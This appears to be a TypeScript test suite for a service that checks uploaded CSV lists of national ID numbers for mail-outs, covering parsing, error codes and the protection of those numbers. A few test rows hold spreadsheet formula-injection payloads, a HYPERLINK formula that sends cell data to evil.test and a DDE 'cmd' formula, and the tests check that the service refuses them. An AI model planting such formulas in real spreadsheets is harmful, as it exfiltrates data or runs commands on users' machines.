import { describe, expect, it } from "vitest";

import { PROJECT, approved, openWorld, orderOf, people, type World } from "../internal/world.ts";

const ids = people(6);
const [first = "", second = ""] = ids;
const CSV = "text/csv";
const TYPES = {
  limits: { perMinute: 1e9, checksPerMinute: 1e9, uploadBytes: 2_000_000, orderBytes: 20_000 },
};
const world = await openWorld({ service: TYPES });

interface Sending {
  readonly type?: string;
  readonly on?: World;
  readonly headers?: Readonly<Record<string, string>>;
}
const send = (
  path: string,
  body: string | Uint8Array<ArrayBuffer>,
  { type = CSV, on = world, headers = {} }: Sending = {},
): Promise<Response> =>
  on.service.fetch(
    new Request(`http://sluse.test/api/v1${path}`, {
      method: "POST",
      headers: { authorization: "Bearer orderer", "content-type": type, ...headers },
      body,
    }),
  );
interface Told {
  readonly code?: string;
  readonly detail?: string;
  readonly place?: object;
  readonly decision?: string;
  readonly mailOut: string;
  readonly tally: object;
  readonly findings: readonly { readonly rule: string; readonly places: readonly object[] }[];
}
const toldOf = async (sent: Promise<Response>): Promise<[number, Told]> => {
  const answer = await sent;
  return [answer.status, (await answer.json()) as Told];
};

const sheet = (rows: readonly string[], heading = "ID"): string => `${[heading, ...rows].join("\r\n")}\r\n`;
let forms = 0;
/** A form as a program sends it: what stands between its parts is another each time. */
function formOf(csv: string | Uint8Array, order: unknown = orderOf()): [Uint8Array<ArrayBuffer>, Sending] {
  const boundary = `----sluse-${(forms += 1)}`;
  const part = (name: string, type: string): string =>
    `--${boundary}\r\nContent-Disposition: form-data; name="${name}"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n`;
  const bytes = Buffer.concat([
    Buffer.from(`${part("order", "application/json")}${JSON.stringify(order)}\r\n${part("recipients", CSV)}`),
    Buffer.from(csv as string),
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return [new Uint8Array(bytes), { type: `multipart/form-data; boundary=${boundary}` }];
}
/** An order with a list that is tried: nothing of it stays. */
const tried = (csv: string | Uint8Array): Promise<[number, Told]> => {
  const [body, type] = formOf(csv);
  return toldOf(send("/checks/order", body, type));
};

describe("recipients as CSV", () => {
  const inBokmal = ids.map((id) => `${id};nb`);
  it.each([
    ["a column", sheet(ids)],
    ["semicolons, as Norwegian Excel writes them", sheet(inBokmal, "ID;sprak")],
    ["commas", sheet(inBokmal, "ID;Språk").replaceAll(";", ",")],
    ["tabs", sheet(inBokmal, "ID;sprak").replaceAll(";", "\t")],
    ["a mark of order first", `\ufeff${sheet(ids)}`],
    ["sep= first", `sep=;\r\n${sheet(inBokmal, "ID;sprak")}`],
    [
      "quotes",
      sheet(
        ids.map((id) => `"${id}"`),
        '"ID"',
      ),
    ],
    ["numbers as a spreadsheet keeps their zeros", sheet(ids.map((id) => `="${id}"`))],
    ["line feeds alone", sheet(ids).replaceAll("\r", "")],
    ["no end of the last line", sheet(ids).trimEnd()],
    ["empty rows", `${sheet(ids)}\r\n\r\n`],
  ])("are read with %s, as lines of JSON are", async (_, csv) => {
    const [status, { decision, tally, findings }] = await tried(csv);
    expect([status, decision, findings]).toEqual([200, "release", []]);
    expect(tally).toMatchObject({ given: 6, valid: 6, duplicate: 0, invalid: {} });
  });

  it("are ordered, looked at again, and go out, each named by its row of the sheet", async () => {
    const on = await openWorld({ service: TYPES });
    on.register.mood = "throws";
    const csv = sheet(ids);
    const [body, type] = formOf(csv);
    const [status, report] = await toldOf(send("/mail-outs", body, { ...type, on }));
    expect([status, report.decision]).toEqual([201, "hold"]);
    on.register.mood = "honest";
    const again = await toldOf(send(`/mail-outs/${report.mailOut}/recheck`, csv, { on }));
    expect([again[0], again[1].decision]).toEqual([200, "release"]);
    const mailOut = await approved(on, [], "orderer", { standing: { trigger: "Ny", perDay: 9, inAll: 9 } });
    const released = await send(`/mail-outs/${mailOut}/release?waves=1`, sheet([first, second]), { on });
    const [line = ""] = (await released.text()).split("\n");
    const { clearances } = JSON.parse(line) as { clearances: readonly { readonly row: number }[] };
    expect(clearances.map(({ row }) => row).toSorted((a, b) => a - b)).toEqual([2, 3]);
    for (const id of ids) expect(line).not.toContain(id);
  });

  it("are the same request when the form is written anew", async () => {
    const on = await openWorld({ service: TYPES });
    const headers = { "idempotency-key": "01890a5d-ac96-774b-bcce-b302099a8057" };
    const order = async (csv: string): Promise<[number, Told]> => {
      const [body, type] = formOf(csv);
      return toldOf(send("/mail-outs", body, { ...type, on, headers }));
    };
    const [once, twice, other] = [
      await order(sheet(ids)),
      await order(sheet(ids)),
      await order(sheet([first])),
    ];
    expect(twice).toEqual(once);
    expect([other[0], other[1].code]).toEqual([422, "SLUSE_SERVICE_KEY_REUSED"]);
  });

  it("are none of a standing order, in a sheet either", async () => {
    const order = orderOf({ standing: { trigger: "Ny", perDay: 9, inAll: 9 } });
    const [body, type] = formOf(sheet(ids), order);
    const [status, { code }] = await toldOf(send("/checks/order", body, type));
    expect([status, code]).toEqual([422, "SLUSE_ORDER_INVALID"]);
  });
});

describe("what is wrong in a sheet", () => {
  it("of a row is told by its row, and not said again", async () => {
    const rows = [first, "1309724802", "", `${first.slice(0, 10)}x`, `=${second}`, `@${second}`, second];
    const [status, { findings }] = await tried(sheet(rows));
    expect(status).toBe(200);
    const places = findings.flatMap(({ places: each }) => each).map((each) => (each as { row: number }).row);
    expect(new Set(places)).toEqual(new Set([3, 5, 6, 7]));
    expect(JSON.stringify(findings)).not.toMatch(new RegExp(`${second}|${first.slice(0, 10)}`, "u"));
  });

  const a = "a".repeat(1_100_000);
  it.each([
    ["no heading", sheet(ids.slice(1), first), "SLUSE_TABLE_COLUMN_MISSING"],
    ["nothing", "", "SLUSE_TABLE_NO_ROWS"],
    ["a heading alone", "ID\r\n", "SLUSE_TABLE_NO_ROWS"],
    ["no column of national ids", `navn\r\n${first}\r\n`, "SLUSE_TABLE_COLUMN_MISSING"],
    ["a column twice", sheet([`${first};${second}`], "ID;id"), "SLUSE_TABLE_COLUMN_TWICE"],
    ["a number in another column", sheet([`${first};${second}`], "ID;forelder"), "SLUSE_TABLE_SECOND_IDS"],
    ["a number for a heading", sheet([`${first};x`], `ID;${second}`), "SLUSE_TABLE_SECOND_IDS"],
    ["a cell too many", sheet([`${first};${second}`]), "SLUSE_TABLE_CELL_WITHOUT_HEADING"],
    ["a language nobody knows", sheet([`${first};${second}`], "ID;sprak"), "SLUSE_TABLE_LANGUAGE_UNKNOWN"],
    ["a quote that is never closed", sheet([`"${first}`]), "SLUSE_TABLE_NOT_CSV"],
    ["a quote within a cell", sheet([`${first.slice(0, 6)}"${first.slice(6)}`]), "SLUSE_TABLE_NOT_CSV"],
    ["rows that a quote swallowed", sheet([`"${first}\r\n${second}"`]), "SLUSE_TABLE_ROWS_SWALLOWED"],
    ["a field without an end", sheet([`${first};${a}`], "ID;x"), "SLUSE_TABLE_LINE_TOO_LONG"],
    ["a heading without an end", `ID;${a}`, "SLUSE_TABLE_LINE_TOO_LONG"],
    ["more columns than a letter has values", sheet(ids, `ID${";v".repeat(300)}`), "SLUSE_TABLE_TOO_LARGE"],
    [
      "the letters of before",
      Buffer.from(sheet([`${first};Åse`], "ID;navn"), "latin1"),
      "SLUSE_TABLE_ENCODING",
    ],
    ["two bytes a letter", Buffer.from(`\ufeff${sheet(ids)}`, "utf16le"), "SLUSE_TABLE_ENCODING"],
    ["a workbook", Buffer.from("PK\u0003\u0004rest of it\n"), "SLUSE_TABLE_FORMAT_UNKNOWN"],
    ["a page", "<html><body>Logg inn</body></html>", "SLUSE_TABLE_COLUMN_MISSING"],
    ["lines of JSON", `{"nationalId":"${first}"}\n`, "SLUSE_TABLE_NOT_CSV"],
  ])("as %s ends the reading, says where, and says no number again", async (_, csv, code) => {
    const [body, type] = formOf(csv);
    const before = (await world.gate.list({ by: "sølvi.åsen@hemit.no" })).mailOuts.length;
    const answer = await send("/mail-outs", body, type);
    const text = await answer.text();
    const problem = JSON.parse(text) as Told;
    expect([answer.status, problem.code]).toEqual([422, code]);
    expect(problem.place).toMatchObject({ file: "recipients.csv" });
    for (const id of ids) expect(text).not.toContain(id.slice(0, 10));
    expect((await world.gate.list({ by: "sølvi.åsen@hemit.no" })).mailOuts.length).toBe(before);
  });

  it.each([
    ["a NUL in a number", sheet([`${first.slice(0, 5)}\0${first.slice(5)}`])],
    ["a NUL for a number", sheet(["\0"])],
    ["a formula for a number", sheet(['=HYPERLINK("https://evil.test/?"&A1,"x")'])],
    ["a command for a number", sheet(["=cmd|'/c calc'!A1"])],
  ])("as %s clears nobody", async (_, csv) => {
    const [status, { decision }] = await tried(csv);
    expect([status, decision]).not.toEqual([200, "release"]);
    expect(status).toBeLessThan(500);
  });

  it("of a value that a spreadsheet would run is a text of the letter, and no letter's value here", async () => {
    const [status, { findings }] = await tried(sheet([`${first};=1+1`], "ID;navn"));
    expect([status, findings.map(({ rule }) => rule)]).toEqual([200, ["text/slot-unknown"]]);
  });
});

describe("a body of another kind", () => {
  it.each([
    ["a sheet for an order", "/mail-outs", sheet(ids), CSV],
    ["a sheet for one person", `/mail-outs/x/clearances`, sheet(ids), CSV],
    ["a sheet for JSON", "/stops", sheet(ids), CSV],
    ["a sheet in another charset", "/mail-outs/x/recheck", sheet(ids), "text/csv; charset=iso-8859-1"],
    ["a sheet that says it has no heading", "/mail-outs/x/recheck", sheet(ids), "text/csv; header=absent"],
    [
      "a workbook",
      "/mail-outs/x/recheck",
      sheet(ids),
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ],
    ["a plain text", "/mail-outs/x/recheck", sheet(ids), "text/plain"],
    ["a form for rows alone", "/mail-outs/x/recheck", "--a--", "multipart/form-data; boundary=a"],
    ["a form without a boundary", "/mail-outs", "--a--", "multipart/form-data"],
    ["a form of a page", "/mail-outs", "order=x", "application/x-www-form-urlencoded"],
  ])("as %s is not read", async (_, path, body, type) => {
    const [status, { code }] = await toldOf(send(path, body, { type }));
    expect([status, code]).toEqual([415, "SLUSE_SERVICE_MEDIA_TYPE"]);
  });

  it("as a form with a coding is not read", async () => {
    const [body, type] = formOf(sheet(ids));
    const headers = { "content-encoding": "gzip" };
    expect((await send("/mail-outs", body, { ...type, headers })).status).toBe(415);
  });

  it("as a form that is none, or has other parts, is refused", async () => {
    const [body, type] = formOf(sheet(ids));
    const text = Buffer.from(body).toString();
    for (const other of [
      text.replace('name="recipients"', 'name="people"'),
      text.replace('name="order"', 'name="recipients"'),
      text.replace("Content-Type: text/csv", "Content-Type: application/json"),
      text.replace("Content-Type: application/json", "Content-Type: text/csv"),
      text.slice(text.indexOf("--", text.indexOf('"window"'))),
      text.slice(0, -10),
    ]) {
      const [status, { code }] = await toldOf(send("/mail-outs", other, type));
      expect([status, code]).toEqual([400, "SLUSE_SERVICE_FORM_INVALID"]);
    }
  });

  it("as an order that is not as described, twice a key or too large, is refused as in JSON", async () => {
    const codeOf = async (order: unknown): Promise<unknown> => {
      const [body, type] = formOf(sheet(ids), order);
      return (await toldOf(send("/mail-outs", body, type)))[1].code;
    };
    expect(await codeOf({ ...orderOf(), by: "sentral" })).toBe("SLUSE_SERVICE_REQUEST_INVALID");
    expect(await codeOf({ ...orderOf(), purposeTag: "5".repeat(30_000) })).toBe(
      "SLUSE_SERVICE_BODY_TOO_LARGE",
    );
    const [body, type] = formOf(sheet(ids));
    const twice = Buffer.from(body)
      .toString()
      .replace(`"project":"${PROJECT}"`, `"project":"${PROJECT}","project":"x"`);
    expect((await toldOf(send("/mail-outs", twice, type)))[1].code).toBe("SLUSE_SERVICE_JSON_INVALID");
    const [large, of] = formOf(sheet(Array.from({ length: 200_000 }, () => first)));
    expect((await send("/mail-outs", large, of)).status).toBe(413);
  });
});
